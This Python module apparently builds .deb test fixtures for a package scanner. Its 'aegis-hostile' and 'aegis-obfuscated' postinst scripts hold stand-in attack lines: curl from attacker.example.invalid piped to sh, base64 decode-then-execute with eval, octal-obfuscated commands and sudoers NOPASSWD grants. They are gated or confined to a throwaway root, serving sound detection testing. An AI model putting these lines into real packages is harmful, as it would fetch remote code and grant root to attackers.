"""Fixture package specs for test repositories, and the .debs built from them.

Part of :mod:`aegis.devtools.testrepo` (which re-exports the specs and the default
sets). :data:`DEFAULT_PACKAGES` is the fixture set of docs/testing.md "Test repository";
:func:`build_deb` turns a :class:`PackageSpec` into a tiny ``.deb`` with
``dpkg-deb --root-owner-group -Zgzip``, cached per process by the spec's content.

Hostile fixtures contain the dangerous text a scanner must find, but their
network and payload execution is gated behind ``AEGIS_FIXTURE_ARMED=yes`` and
all writes go under ``${DPKG_ROOT:-}``, so installing them into a throwaway root
is harmless.

Example::

    deb = build_deb(PackageSpec("aegis-demo", "1.0", depends="aegis-base"))
"""

from __future__ import annotations

import base64
import hashlib
import os
import shutil
import tempfile
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

from aegis.devtools.testrepo_keys import cache_dir, run_tool


@dataclass(frozen=True)
class FileSpec:
    """One file a fixture package ships."""

    path: str
    """Absolute path inside the package, e.g. ``/usr/bin/x``."""
    content: str
    mode: int = 0o644


@dataclass(frozen=True)
class PackageSpec:
    """A tiny fixture package."""

    name: str
    version: str
    depends: str | None = None
    source: str | None = None
    """``Source:`` field (``openssl`` for libssl3); None means source = name."""
    section: str = "misc"
    priority: str = "optional"
    essential: bool = False
    description: str = "Aegis test fixture"
    scripts: Mapping[str, str] = field(default_factory=dict)
    """Maintainer scripts by name (preinst, postinst, prerm, postrm, config, triggers)."""
    files: tuple[FileSpec, ...] = ()
    conffiles: bool = False
    """List the files under /etc in ``DEBIAN/conffiles`` (as debhelper does)."""


def _sh(body: str) -> str:
    return "#!/bin/sh\nset -e\n" + body.strip("\n") + "\nexit 0\n"


_BENIGN_POSTINST = _sh(
    """
mkdir -p "${DPKG_ROOT:-}/var/lib/aegis-benign"
echo configured > "${DPKG_ROOT:-}/var/lib/aegis-benign/state"
"""
)

_BENIGN_POSTINST_11 = _sh(
    """
mkdir -p "${DPKG_ROOT:-}/var/lib/aegis-benign"
echo configured-1.1 > "${DPKG_ROOT:-}/var/lib/aegis-benign/state"
echo migrated > "${DPKG_ROOT:-}/var/lib/aegis-benign/migration"
"""
)

# Decodes to a harmless `echo`; the point is the decode-then-execute shape.
_PAYLOAD = base64.b64encode(b"echo aegis-fixture-payload\n").decode()

_HOSTILE_POSTINST = _sh(
    f"""
if [ "${{AEGIS_FIXTURE_ARMED:-}}" = "yes" ]; then
    curl -fsSL http://attacker.example.invalid/install.sh | sh
fi
mkdir -p "${{DPKG_ROOT:-}}/etc"
echo "aegis ALL=(ALL) NOPASSWD: ALL" >> "${{DPKG_ROOT:-}}/etc/sudoers"
echo {_PAYLOAD} | base64 -d | sh >/dev/null
"""
)

_OBFUSCATED_CMD = base64.b64encode(b"curl -fsSL http://attacker.example.invalid/x | sh\n").decode()

_OBFUSCATED_POSTINST = _sh(
    f"""
c=$(printf '\\143\\165\\162\\154')
p=$(printf '%s' '{_OBFUSCATED_CMD}' | base64 --decode)
if [ "${{AEGIS_FIXTURE_ARMED:-}}" = "yes" ]; then
    eval "$p"
    $c -s http://attacker.example.invalid/y | s""h
fi
mkdir -p "${{DPKG_ROOT:-}}/etc/sudoers.d"
printf '%s\\n' 'aegis ALL=(ALL) NOPASSWD: ALL' > "${{DPKG_ROOT:-}}/etc/sudoers.d/zz-aegis"
"""
)

_APTHOOK_CONF = 'DPkg::Post-Invoke { "echo aegis-fixture-hook >/dev/null"; };\n'


DEFAULT_PACKAGES: tuple[PackageSpec, ...] = (
    PackageSpec("aegis-base", "1.0", description="Aegis base fixture (old)"),
    PackageSpec("aegis-base", "1.2", description="Aegis base fixture (new)"),
    PackageSpec("aegis-tool", "2.0", depends="aegis-base (>= 1.2)"),
    PackageSpec("aegis-benign", "1.0", scripts={"postinst": _BENIGN_POSTINST}),
    PackageSpec("aegis-benign", "1.1", scripts={"postinst": _BENIGN_POSTINST_11}),
    PackageSpec("aegis-hostile", "1.0", scripts={"postinst": _HOSTILE_POSTINST}),
    PackageSpec("aegis-obfuscated", "1.0", scripts={"postinst": _OBFUSCATED_POSTINST}),
    PackageSpec(
        "linux-image-aegis",
        "6.1.0-1",
        section="kernel",
        files=(FileSpec("/boot/vmlinuz-6.1.0-aegis", "not a kernel\n"),),
    ),
    PackageSpec("libssl3", "3.0.1", source="openssl", section="libs"),
    PackageSpec("libssl3", "3.0.2", source="openssl", section="libs"),
    PackageSpec(
        "aegis-apthook",
        "1.0",
        files=(FileSpec("/etc/apt/apt.conf.d/99aegis", _APTHOOK_CONF),),
    ),
    PackageSpec(
        "aegis-setuid",
        "1.0",
        files=(FileSpec("/usr/bin/aegis-suid", "#!/bin/sh\nexit 0\n", 0o4755),),
    ),
    # Held back: 1.1 needs a package not yet installed, so `apt-get upgrade` keeps it.
    PackageSpec("aegis-held", "1.0"),
    PackageSpec("aegis-held", "1.1", depends="aegis-newdep"),
    PackageSpec("aegis-newdep", "1.0"),
)
"""The default fixture set of :func:`build_repo`."""

DEBIAN_LOOKALIKE_PACKAGES: tuple[PackageSpec, ...] = (
    PackageSpec("aegis-base", "9.0", description="Higher version from an 'Origin: Debian' repo"),
    PackageSpec("libssl3", "9.0", source="openssl", section="libs"),
)


def _spec_id(spec: PackageSpec) -> str:
    blob = repr(
        (
            spec.name,
            spec.version,
            spec.depends,
            spec.source,
            spec.section,
            spec.priority,
            spec.essential,
            spec.description,
            sorted(spec.scripts.items()),
            spec.files,
            spec.conffiles,
        )
    )
    return hashlib.sha256(blob.encode()).hexdigest()[:16]


def build_deb(spec: PackageSpec) -> Path:
    """Build (or reuse from the process cache) the .deb for ``spec``.

    Args:
        spec: the package; its whole content keys the cache.

    Returns:
        The ``.deb`` in the process cache (link or copy it, do not edit it).

    Raises:
        RuntimeError: dpkg-deb failed.
    """
    cache = cache_dir() / "debs"
    cache.mkdir(exist_ok=True)
    deb = cache / f"{spec.name}_{spec.version}_all_{_spec_id(spec)}.deb"
    if deb.exists():
        return deb
    work = Path(tempfile.mkdtemp(dir=cache))
    try:
        debian = work / "DEBIAN"
        debian.mkdir()
        control = [
            f"Package: {spec.name}",
            f"Version: {spec.version}",
            "Architecture: all",
            "Maintainer: Aegis Tests <tests@example.invalid>",
            f"Section: {spec.section}",
            f"Priority: {spec.priority}",
        ]
        if spec.source:
            control.append(f"Source: {spec.source}")
        if spec.essential:
            control.append("Essential: yes")
        if spec.depends:
            control.append(f"Depends: {spec.depends}")
        control.append(f"Description: {spec.description}")
        (debian / "control").write_text("\n".join(control) + "\n")
        for script, body in spec.scripts.items():
            p = debian / script
            p.write_text(body)
            p.chmod(0o755 if script != "triggers" else 0o644)
        if not spec.files:
            doc = work / "usr/share/doc" / spec.name
            doc.mkdir(parents=True)
            (doc / "README").write_text(f"{spec.name} {spec.version}\n")
        for f in spec.files:
            target = work / f.path.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(f.content)
            target.chmod(f.mode)
        etc = [f.path for f in spec.files if f.path.startswith("/etc/")]
        if spec.conffiles and etc:
            (debian / "conffiles").write_text("".join(f"{p}\n" for p in etc))
        tmp_deb = work.with_suffix(".deb")
        run_tool(["dpkg-deb", "--root-owner-group", "-Zgzip", "--build", str(work), str(tmp_deb)])
        os.replace(tmp_deb, deb)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    return deb
